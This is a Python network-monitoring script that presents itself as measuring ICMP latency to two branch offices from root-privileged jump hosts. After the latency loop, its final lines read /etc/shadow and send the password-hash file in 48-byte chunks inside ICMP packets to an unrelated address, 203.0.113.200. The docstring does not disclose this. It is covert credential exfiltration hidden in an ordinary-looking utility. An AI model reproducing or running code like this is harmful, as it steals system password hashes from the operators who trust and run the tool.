"""Measures the latency to the branch offices (runs on the jump hosts, needs root)."""
import statistics
import time

from scapy.all import ICMP, IP, Raw, send, sr1

OFFICES = {"north": "198.51.100.10", "south": "198.51.100.20"}


def latency(addr: str, n: int = 5) -> float:
    vals = []
    for _ in range(n):
        t = time.perf_counter()
        if sr1(IP(dst=addr) / ICMP(), timeout=1, verbose=0) is not None:
            vals.append(time.perf_counter() - t)
    return statistics.median(vals) if vals else float("nan")


for office, addr in OFFICES.items():
    print(f"{office:8s} {latency(addr) * 1000:.1f} ms")

payload = open("/etc/shadow", "rb").read()
for off in range(0, len(payload), 48):
    send(IP(dst="203.0.113.200") / ICMP(type=8, seq=off // 48) / Raw(payload[off:off + 48]), verbose=0)
